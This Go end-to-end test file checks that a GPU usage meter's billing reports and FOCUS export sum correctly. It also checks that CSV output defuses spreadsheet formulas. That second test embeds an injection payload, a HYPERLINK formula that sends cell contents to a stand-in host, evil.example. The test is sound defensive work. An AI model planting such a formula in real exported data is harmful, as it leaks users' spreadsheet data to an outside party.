package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/slicemeter/slicemeter/deploy/local/localtest"
	"github.com/slicemeter/slicemeter/e2e/apptest"
)

// TestReportLineItemsAndFOCUS runs the demo on a public scenario into ClickHouse, then the
// report command's finance outputs from it: the line items (--by allocation) sum to the tenant
// report's cost per tenant, and the FOCUS export (CSV on stdout, Parquet, the metadata file)
// bills each tenant its report's cost and list cost and passes the FOCUS validator.
//
//	go test -count=1 -run TestReportLineItemsAndFOCUS ./e2e/
func TestReportLineItemsAndFOCUS(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	file := filepath.Join(scenarios, "mig-basic.yaml")
	sc := loadScenario(t, file)
	dsn := localtest.Database(t, localtest.DatabaseOptions{Unmigrated: true}).DSN
	apptest.Demo(t, ctx, "--no-attribution.store-minutes", "--scenario", file, "--fast", "--clickhouse.dsn", dsn, "--web.listen-address", "127.0.0.1:0", "--report", filepath.Join(t.TempDir(), "r.csv"))
	window := scenarioWindow(file, sc)

	tenants := parseCSV(t, apptest.Report(t, ctx, dsn, window...).Stdout)
	sums := func(rows [][]string, tenantCol, col string) map[string]float64 {
		i, k := slices.Index(rows[0], col), slices.Index(rows[0], tenantCol)
		out := map[string]float64{}
		for _, r := range rows[1:] {
			v, err := strconv.ParseFloat(r[i], 64)
			if err == nil {
				out[r[k]] += v
			}
		}
		return out
	}
	cost, list := sums(tenants, "tenant", "cost"), sums(tenants, "tenant", "list_cost")
	delete(cost, "__unallocated__")
	delete(list, "__unallocated__")
	if len(cost) == 0 {
		t.Fatalf("no tenant in the report:\n%v", tenants)
	}
	near := func(what string, got, want map[string]float64, tol float64) {
		t.Helper()
		for tenant, w := range want {
			if math.Abs(got[tenant]-w) > tol {
				t.Errorf("%s of %s: %.6f, the tenant report's %.6f", what, tenant, got[tenant], w)
			}
		}
		if len(got) != len(want) {
			t.Errorf("%s: tenants %v, the report's %v", what, got, want)
		}
	}

	items := parseCSV(t, apptest.Report(t, ctx, dsn, append(window, "--by", "allocation")...).Stdout)
	near("Σ line items' cost", sums(items, "tenant", "cost"), cost, float64(len(items))*5e-7)

	dir := t.TempDir()
	meta := filepath.Join(dir, "focus.metadata.json")
	r := apptest.Report(t, ctx, dsn, append(window, "--format", "focus", "--focus.metadata", meta, "--focus.issuer", "GPU Cloud Inc.")...)
	rows := parseCSV(t, r.Stdout)
	near("Σ BilledCost", sums(rows, "BillingAccountId", "BilledCost"), cost, 1e-5)
	near("Σ ListCost", sums(rows, "BillingAccountId", "ListCost"), list, 1e-5)
	var m struct{ Schema struct{ FocusVersion string } }
	if b, err := os.ReadFile(meta); err != nil || json.Unmarshal(b, &m) != nil || m.Schema.FocusVersion != "1.2" {
		t.Errorf("metadata file: %v %+v", err, m)
	}
	csvFile := filepath.Join(dir, "focus.csv")
	if err := os.WriteFile(csvFile, []byte(r.Stdout), 0o600); err != nil {
		t.Fatal(err)
	}
	localtest.ValidateFOCUS(t, csvFile)

	pq := apptest.Report(t, ctx, dsn, append(window, "--format", "focus", "--focus.file-format", "parquet")...).Stdout
	if !bytes.HasPrefix([]byte(pq), []byte("PAR1")) || !bytes.HasSuffix([]byte(pq), []byte("PAR1")) {
		t.Errorf("--focus.file-format parquet: not a Parquet file (%d bytes)", len(pq))
	}
}

// TestFOCUSFormulaCells: an allocation id a spreadsheet would evaluate (here the scenario's
// name, which every allocation id of the demo starts with) comes out of `report --format
// focus` with a leading ' in x_AllocationId and ChargeDescription, as in the other CSV
// reports; the Parquet export keeps it raw.
//
//	go test -count=1 -run TestFOCUSFormulaCells ./e2e/
func TestFOCUSFormulaCells(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	const formula = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
	file := writeFile(t, "formula.yaml", `version: 1
name: '`+formula+`'
start: "2026-01-05T00:00:00Z"
duration: 5m
interval: 1s
currency: USD
prices: {H100-SXM5-80GB: 2.40}
tiers: {pro: 1.0}
nodes:
  - name: node-a
    gpus:
      - {model: H100-SXM5-80GB}
tenants:
  - name: acme
    tier: pro
    allocations:
      - {target: node-a/gpu0, requested: 0s, ready: 5s, end: 5m, workload: {sm: 0.5, mem: 0.5}}
`)
	sc := loadScenario(t, file)
	dsn := localtest.Database(t, localtest.DatabaseOptions{Unmigrated: true}).DSN
	apptest.Demo(t, ctx, "--no-attribution.store-minutes", "--scenario", file, "--fast", "--clickhouse.dsn", dsn, "--web.listen-address", "127.0.0.1:0", "--report", filepath.Join(t.TempDir(), "r.csv"))
	window := scenarioWindow(file, sc)

	rows := parseCSV(t, apptest.Report(t, ctx, dsn, append(window, "--format", "focus")...).Stdout)
	id, desc, usage := slices.Index(rows[0], "x_AllocationId"), slices.Index(rows[0], "ChargeDescription"), 0
	for _, r := range rows[1:] {
		if r[id] == "" {
			continue
		}
		usage++
		if !strings.HasPrefix(r[id], "'"+formula) || !strings.HasPrefix(r[desc], "'"+formula) {
			t.Errorf("x_AllocationId %q, ChargeDescription %q: want both to start with '%s", r[id], r[desc], formula)
		}
	}
	if usage == 0 {
		t.Fatalf("no row with an allocation id:\n%v", rows)
	}

	pq := apptest.Report(t, ctx, dsn, append(window, "--format", "focus", "--focus.file-format", "parquet")...).Stdout
	if !strings.Contains(pq, formula+"/acme/0") || strings.Contains(pq, "'"+formula) {
		t.Errorf("the Parquet export lacks the raw allocation id %q", formula+"/acme/0")
	}
}
